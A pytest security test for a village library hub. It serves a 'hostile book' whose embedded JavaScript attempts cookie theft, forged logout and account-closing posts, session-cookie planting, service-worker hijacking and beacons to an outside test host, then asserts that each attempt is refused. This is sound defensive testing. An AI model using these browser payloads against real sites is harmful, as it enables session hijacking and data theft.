"""A book whose script tries everything, in a real browser, while the technician is logged in: nothing may succeed."""

from __future__ import annotations

import json
import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from socketserver import ThreadingMixIn
from typing import Any
from wsgiref.simple_server import WSGIRequestHandler, WSGIServer

import pytest

from hub.accounts import Accounts
from hub.config import HouseConfig, HubConfig, PathsConfig, WebConfig
from hub.roles import Role
from hub.site import create_site
from library.testing import Entry, bake_zim, shelve

playwright_sync = pytest.importorskip(
    "playwright.sync_api", reason="playwright is not installed: ./run test installs it"
)
CHROMIUM = shutil.which("chromium")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed: ./run test installs it")

NAME, PIN, EDITOR_PIN = "thuvien.lan", "850316", "273941"

SCRIPT = """
<!doctype html><title>hostile</title><script>
const HUB = %(hub)s, AWAY = %(away)s, EDITOR = %(editor)s, said = {};
const attempt = async (name, action) => {
  try { said[name] = String(await action()); } catch (e) { said[name] = 'refused'; }
};
const make = (tag, fields, parent = document.body) => {
  const made = Object.assign(document.createElement(tag), fields);
  parent.append(made);
  return made;
};
const after = (ms, word) => new Promise((done) => setTimeout(() => done(word), ms));
const look = async (frame) => { await after(700); return frame.contentDocument.body.innerText || 'refused'; };
const send = (path, fields) => {
  const name = 'frame' + Math.random();
  make('iframe', {name});
  const form = make('form', {method: 'post', action: HUB + path, target: name});
  for (const [key, value] of Object.entries(fields)) make('input', {name: key, value}, form);
  form.submit();
  return after(500, 'sent');
};
const picture = (src) => new Promise((onload, onerror) => make('img', {src, onload, onerror}));
const ask = (path, more) => fetch(HUB + path, {credentials: 'include', ...more});
addEventListener('load', async () => {
  await attempt('cookies', () => document.cookie || 'refused');
  await attempt('api', async () => (await ask('/api/shelf')).status);
  await attempt('admin', async () => (await (await ask('/quan-tri')).text()).length);
  await attempt('blind post', async () => (await ask('/dang-xuat', {method: 'POST', mode: 'no-cors'})).type);
  await attempt('frame', () => look(make('iframe', {src: HUB + '/quan-tri'})));
  await attempt('away', async () => (await fetch(AWAY, {mode: 'no-cors'})).type);
  await attempt('picture', () => picture(AWAY));
  await attempt('worker', async () => (await navigator.serviceWorker.register('sw.js', {scope: '/'})).scope);
  await attempt('opener', () => window.opener || 'refused');
  const got = JSON.stringify(said);
  await attempt('beacon', () => navigator.sendBeacon(AWAY + 'beacon', 'x'));
  await attempt('style', () => make('link', {rel: 'stylesheet', href: AWAY + 'css'}, document.head));
  await attempt('log out', () => send('/dang-xuat', {}));
  await attempt('take away', () => send('/quan-tri/tai-khoan', {role: 'content-editor', do: 'close', pin: %(pin)s}));
  await attempt('plant', () => {
    for (const path of ['/', '/quan-tri', '/quan-tri/', '/quan-tri/tai-khoan'])
      for (const [name, value] of [['hub_session', EDITOR], ['hub_form', 'x'], ['hub_device', 'x']])
        document.cookie = `${name}=${value}; path=${path}; domain=%(name)s`;
  });
  document.title = got;
});
</script>
"""


class Server(ThreadingMixIn, WSGIServer):
    daemon_threads = True


class Silent(WSGIRequestHandler):
    def log_message(self, *args: object) -> None:
        pass


@dataclass
class House:
    """A running website with a hostile book, and what came to a machine that is not the hub."""

    port: int
    accounts: Accounts
    strangers: list[str]


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    strangers: list[str] = []

    class Stranger(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            strangers.append(self.path)
            self.send_error(404)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *args: object) -> None:
            pass

    away = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    content, state = tmp_path / "content", tmp_path / "state"
    content.mkdir()
    state.mkdir()
    (tmp_path / "run").mkdir()
    village = HouseConfig(id="test", name="Thử", village_word="bản", commune="Mới", province="Bắc Ninh")
    accounts = Accounts(state, tmp_path / "run")
    accounts.set_pin(Role.TECHNICIAN, PIN)
    accounts.set_pin(Role.CONTENT_EDITOR, EDITOR_PIN)
    editor = accounts.enter(Role.CONTENT_EDITOR).session

    def site(environ: Any, start_response: Any) -> Any:
        return door(environ, start_response)

    server = Server(("127.0.0.1", 0), Silent)
    server.set_app(site)
    port = server.server_port
    words = {
        "hub": json.dumps(f"http://{NAME}:{port}"),
        "editor": json.dumps(editor),
        "name": NAME,
        "pin": json.dumps(PIN),
    }
    words["away"] = json.dumps(f"http://127.0.0.2:{away.server_port}/")
    page = Entry(SCRIPT % words, "hostile")
    worker = Entry("onfetch = (e) => e.respondWith(new Response('mine'))", mimetype="text/javascript")
    bake_zim(content / "a.zim", {"index.html": page, "sw.js": worker}, name="a", title="A", main_path="index.html")
    shelve(content, state)
    paths = PathsConfig(data=tmp_path, run=tmp_path / "run")
    door = create_site(HubConfig(house=village, paths=paths, web=WebConfig(name=NAME, port=port)))
    threads = [threading.Thread(target=run, daemon=True) for run in (server.serve_forever, away.serve_forever)]
    for thread in threads:
        thread.start()
    yield House(port, accounts, strangers)
    for one in (server, away):
        one.shutdown()
        one.server_close()
    accounts.release()


@pytest.fixture
def browser(house: House) -> Iterator[Any]:
    rules = f"--host-resolver-rules=MAP {NAME} 127.0.0.1, MAP sach.{NAME} 127.0.0.1"
    flags = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", rules]
    with playwright_sync.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=flags)
        yield chromium.new_context()
        chromium.close()


def log_in(page: Any, origin: str) -> None:
    page.goto(f"{origin}/dang-nhap?kieu=chu")
    page.check("input[value=technician]")
    page.fill("#pin", PIN)
    page.click("button.big")
    page.wait_for_url("**/quan-tri")


@pytest.mark.parametrize("host", [NAME, "127.0.0.1"])
def test_a_hostile_book_gets_nothing(house: House, browser: Any, host: str) -> None:
    origin = f"http://{host}:{house.port}"
    page = browser.new_page()
    log_in(page, origin)
    books = origin if host == "127.0.0.1" else f"http://sach.{host}:{house.port}"
    hostile = browser.new_page()
    hostile.goto(f"{books}/trang/a/index.html")
    hostile.wait_for_function("document.title.startsWith('{')", timeout=30_000)
    said = json.loads(hostile.title())
    assert said == dict.fromkeys(said, "refused")
    assert len(said) == 9
    assert house.strangers == []
    page.goto(f"{origin}/quan-tri/tai-khoan")
    assert page.url == f"{origin}/quan-tri/tai-khoan", "still logged in"
    assert page.locator("input[name=role][value=village-head]").count(), "and still as the technician"
    assert house.accounts.has_pin(Role.CONTENT_EDITOR)
    page.goto(f"{origin}/tu-sach")
    assert "A" in page.inner_text("main")
